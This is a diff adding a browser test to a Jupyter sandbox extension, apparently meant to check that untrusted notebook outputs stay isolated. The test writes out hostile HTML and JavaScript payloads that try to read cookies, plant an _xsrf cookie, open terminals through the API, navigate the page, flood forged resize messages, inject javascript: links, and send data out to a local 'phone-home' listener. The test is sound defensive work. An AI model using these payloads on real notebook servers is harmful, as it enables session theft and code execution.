@@ -12,6 +12,7 @@ sandbox kernel saved: it shows the sanitised fallback and runs nothing.
 from __future__ import annotations
 
 import json
+import os
 import re
 import subprocess
 import sys
@@ -189,3 +190,180 @@ def test_rich_output_looks_as_with_a_local_kernel_and_runs_isolated(lab: Server,
     bundles = [o["data"] for c in saved.cells for o in c.get("outputs", []) if "data" in o]
     assert sum(ISOLATED_MIME in b for b in bundles) == len(FRAMED) + 1  # the framed ones and Markdown
     assert not any("<script" in str(b.get("text/html", "")) for b in bundles)
+
+
+# -- an attacker's outputs: each frame tries what the trust-boundary issue lists ---------------------
+
+PROBE = """<pre id="result">pending</pre><script>
+var r = {};
+function t(name, f) { try { r[name] = String(f()); } catch (e) { r[name] = 'blocked:' + e.name; } }
+t('parent', function () { return parent.document.title; });
+t('top', function () { return top.document.cookie; });
+t('cookie', function () { return document.cookie; });
+t('set-cookie', function () { document.cookie = '_xsrf=planted; path=/'; return document.cookie; });
+t('storage', function () { return localStorage.length; });
+t('popup', function () { var w = window.open('/lab?popup', '_blank'); return w === null ? 'null' : 'opened'; });
+t('top-navigation', function () { top.location.href = '/lab?navigated'; return 'assigned'; });
+t('parent-eval', function () { return parent.eval('1'); });
+fetch('/api/contents', { credentials: 'include' }).then(
+  function (x) { r.fetch = 'status:' + x.status; }, function (e) { r.fetch = 'blocked:' + e.name; });
+fetch('/api/terminals', { method: 'POST', credentials: 'include' }).then(
+  function (x) { r.terminal = 'status:' + x.status; }, function (e) { r.terminal = 'blocked:' + e.name; });
+var home = 'http://127.0.0.1:PORT/phone-home';
+fetch(home + '?fetch').catch(function () {});
+new Image().src = home + '?img';
+if (navigator.sendBeacon) { try { navigator.sendBeacon(home + '?beacon', 'x'); } catch (e) {} }
+try { new WebSocket('ws://127.0.0.1:PORT/ws'); } catch (e) {}
+var link = document.createElement('link'); link.rel = 'stylesheet'; link.href = home + '?css'; document.head.appendChild(link);
+setTimeout(function () { document.getElementById('result').textContent = JSON.stringify(r); }, 2000);
+</script>"""
+
+
+def hostile_cells(port: int) -> list[str]:
+    prelude = f"R = {RUN!r}\nfrom IPython.display import HTML, Markdown, Javascript, display\n"
+    return [
+        prelude + f"display(HTML({PROBE.replace('PORT', str(port))!r}))\nprint('probe-shown')",
+        prelude + "display(HTML('<script>' + R + '</script><b>attack-shown</b>'))\n"
+        "display(Javascript('element.textContent = \"js-ran-in-frame\";' + R))\n"
+        "display(HTML('<div style=\"height: 100000px\">very-tall</div>'))\n"
+        'display(HTML(\'<div style="height: 100vh">viewport-tall</div><script>setInterval(function () {'
+        ' parent.postMessage({type: "jupyter-sandbox:size", height: 1e9}, "*"); }, 50)</script>\'))\n'
+        'display(HTML(\'<b>navigator</b><script>setTimeout(function () { location.href = "/api/contents?navigated"; },'
+        " 300)</script>'))",
+        prelude + "display(Markdown('**md-safe** <img src=x onerror=\"' + R + '\"> [md-link](javascript:' + R + ')"
+        " <script>' + R + '</script> ![relative](files/secret.png) $\\\\href{javascript:alert(1)}{tex-link}$'))",
+        prelude + "import ipywidgets as w\nout = w.Output()\ndisplay(out)\nwith out:\n"
+        '    display(HTML(\'<b id="w">in-widget</b><script>document.getElementById("w").textContent ='
+        " \"widget-script-ran\";' + R + '</script>'))",
+    ]
+
+
+@pytest.fixture(scope="module")
+def phone_home() -> Iterator[Any]:
+    with listening() as listener:
+        yield listener
+
+
+def test_a_frame_cannot_act_on_the_jupyter_origin_nor_phone_home(
+    lab: Server, browser: Browser, phone_home: Any, tmp_path_factory: pytest.TempPathFactory
+) -> None:
+    root = Path(lab.root)  # type: ignore[attr-defined]
+    cells = hostile_cells(phone_home.port)
+    (root / "hostile.ipynb").write_text(json.dumps(notebook(cells, "sandbox")))
+    context = browser.new_context(viewport={"width": 1200, "height": 1000})
+    page = context.new_page()
+    requests: list[Request] = []
+    page.on("request", lambda request: requests.append(request))
+    dialogs: list[str] = []
+    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+    open_notebook(page, lab, "hostile.ipynb", "Python 3 (sandbox)")
+    cookies_before = {c["name"]: c["value"] for c in context.cookies()}
+    run_all(page, len(cells))
+
+    result = content(page, 0, True).locator("#result")
+    expect(result).not_to_have_text("pending", timeout=30_000)
+    seen = json.loads(result.inner_text())
+    # The frame's origin is opaque: the page, its cookies and storage are out of reach.
+    for probe in ("parent", "top", "cookie", "set-cookie", "storage", "parent-eval"):
+        assert seen[probe].startswith("blocked:"), (probe, seen)
+    assert seen["popup"] == "null"
+    assert seen["top-navigation"] in ("assigned", "blocked:SecurityError")  # assigned, and refused (below)
+    assert seen["fetch"].startswith("blocked:") and seen["terminal"].startswith("blocked:"), seen
+
+    attack = output(page, 1)
+    expect(attack.frame_locator(FRAME).first.locator("b")).to_have_text("attack-shown", timeout=30_000)
+    expect(attack.locator(FRAME).nth(1).content_frame.locator("body")).to_contain_text("js-ran-in-frame")
+    page.wait_for_timeout(1500)  # the forged size messages keep coming; the clamp holds
+    heights = attack.locator(FRAME).evaluate_all("frames => frames.map(f => f.getBoundingClientRect().height)")
+    assert max(heights) <= 4000, heights
+    expect(attack).to_contain_text("[output removed: it navigated away from its frame]", timeout=30_000)
+
+    markdown = output(page, 2)
+    expect(markdown.locator(".jp-RenderedMarkdown")).to_contain_text("md-safe")
+    expect(markdown).not_to_contain_text("Error")
+    assert markdown.locator(FRAME).count() == 0 and markdown.locator("script").count() == 0
+    assert not markdown.locator("a[href^='javascript'], img[onerror]").count()
+    assert markdown.locator("a", has_text="tex-link").count() == 0  # TeX makes no link
+    assert markdown.locator("img[src*='secret']").count() == 0  # a relative URL names no host file
+
+    widget = output(page, 3)
+    expect(widget.frame_locator(FRAME).locator("#w")).to_have_text("widget-script-ran", timeout=30_000)
+
+    # What the attacker wanted, checked where it would have happened.
+    assert page.evaluate("window.__sandboxPwned") is None
+    assert page.url.startswith(f"{lab.base}/lab/workspaces/") and "navigated" not in page.url
+    assert context.pages == [page] and dialogs == []  # no popup, no alert
+    assert {c["name"]: c["value"] for c in context.cookies()} == cookies_before
+    assert phone_home.paths == []
+    for request in requests:
+        if request.frame != page.main_frame:
+            assert "cookie" not in request.all_headers(), request.url  # no credentials leave a frame
+            assert "/api/terminals" not in request.url and "phone-home" not in request.url, request.url
+        assert "secret.png" not in request.url, request.url
+    status, terminals = lab.request("GET", "/api/terminals")
+    assert status == 200 and terminals == []
+
+    # Saved and opened again: the outputs are no longer trusted, and still render isolated.
+    frames = page.locator(FRAME).count()
+    save(page)
+    page.reload()
+    page.wait_for_selector(".jp-Notebook .jp-Cell", timeout=90_000)
+    expect(page.locator(FRAME)).to_have_count(frames, timeout=60_000)
+    expect(content(page, 0, True).locator("#result")).not_to_have_text("pending", timeout=30_000)
+    assert page.evaluate("window.__sandboxPwned") is None
+    context.close()
+    saved = nbformat.read(root / "hostile.ipynb", as_version=4)
+    nbformat.validate(saved)
+    # The same notebook where the labextension is disabled: the sanitised fallback, and nothing runs.
+    check_without_the_extension(lab, browser, tmp_path_factory)
+
+
+def check_without_the_extension(lab: Server, browser: Browser, tmp_path_factory: pytest.TempPathFactory) -> None:
+    """What the sandbox kernel saved, opened where the labextension is disabled: nothing runs."""
+    source = Path(lab.root)  # type: ignore[attr-defined]
+    root = tmp_path_factory.mktemp("plain-root")
+    for name in ("hostile.ipynb",):
+        saved = json.loads((source / name).read_text())
+        assert any(o.get("data", {}).get(ISOLATED_MIME) for c in saved["cells"] for o in c["outputs"]), name
+        # Opened with a local kernel: the outputs are what the sandbox saved; no sandbox is started.
+        saved["metadata"]["kernelspec"] = {
+            "name": "python3",
+            "display_name": "Python 3 (ipykernel)",
+            "language": "python",
+        }
+        (root / name).write_text(json.dumps(saved))
+    config = tmp_path_factory.mktemp("plain-config")
+    env = {"JUPYTER_CONFIG_DIR": str(config), "NO_PROXY": "127.0.0.1,localhost"}
+    subprocess.run(
+        [sys.executable, "-m", "jupyter", "labextension", "disable", "jupyter-sandbox"],
+        check=True,
+        capture_output=True,
+        timeout=120,
+        env={**os.environ, **env},
+    )
+    server, process = start_jupyter_server(
+        root,
+        [*lab_args(tmp_path_factory.mktemp("plain-lab"), {"notebook-extension/tracker": {"windowingMode": "none"}})],
+        log=tmp_path_factory.mktemp("plain-log") / "lab.log",
+        module="jupyterlab",
+        env=env,
+    )
+    try:
+        context = browser.new_context(viewport={"width": 1200, "height": 1000})
+        page = context.new_page()
+        dialogs: list[str] = []
+        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+        for name in ("hostile.ipynb",):
+            open_notebook(page, server, name, "Python 3 (ipykernel)")
+            assert page.locator(".jp-SandboxSidebar").count() == 0  # the extension is not there
+            assert page.locator(FRAME).count() == 0
+            assert page.locator(".jp-OutputArea script").count() == 0
+            page.wait_for_timeout(1500)
+            assert page.evaluate("window.__sandboxPwned") is None
+        expect(output(page, 1)).to_contain_text("attack-shown")  # the fallback: sanitised HTML, as text
+        expect(output(page, 2)).to_contain_text("md-safe")
+        assert dialogs == []
+        context.close()
+    finally:
+        process.terminate()
+        process.wait(timeout=60)
